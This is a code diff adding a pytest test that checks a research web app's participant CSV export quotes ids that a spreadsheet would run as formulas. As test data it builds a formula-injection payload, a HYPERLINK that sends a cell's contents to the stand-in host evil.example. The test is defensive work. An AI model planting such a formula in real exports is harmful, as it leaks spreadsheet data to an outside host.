@@ -284,6 +284,24 @@ def test_an_unfilled_placeholder_says_the_panel_did_not_fill_the_link(panel_stud
     assert not Evaluator.objects.exists()
 
 
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_participants_csv_writes_no_panel_id_as_a_formula(study, first):
+    """A generic panel's ids are any printable text: a cell a spreadsheet would run as a
+    formula gets a quote in front (OWASP's advice), every other id is written as it is."""
+    Client().get(f"/join/{study.invite_token}/", {"PROLIFIC_PID": "worker-1"})
+    formula = first + 'HYPERLINK("http://evil.example/?"&A2,"click")'
+    Evaluator.objects.update(external_id=formula, external_study_id=formula + "s", external_session_id=formula + "x")
+    Client().get(f"/join/{study.invite_token}/", {"PROLIFIC_PID": "plain-2"})
+    from webapp.research.participants import participant_rows, participants_csv
+
+    rows = {r["pseudonym"]: r for r in csv.DictReader(io.StringIO(participants_csv(participant_rows(study=study))))}
+    by_id = {r["participant_id"]: r for r in rows.values()}
+    assert set(by_id) == {"'" + formula, "plain-2"}
+    assert by_id["'" + formula]["study_id"] == "'" + formula + "s"
+    assert by_id["'" + formula]["session_id"] == "'" + formula + "x"
+    assert by_id["plain-2"]["study_id"] == "" and by_id["plain-2"]["session_id"] == ""
+
+
 # --------------------------------------------------------------------------- one status
 
 
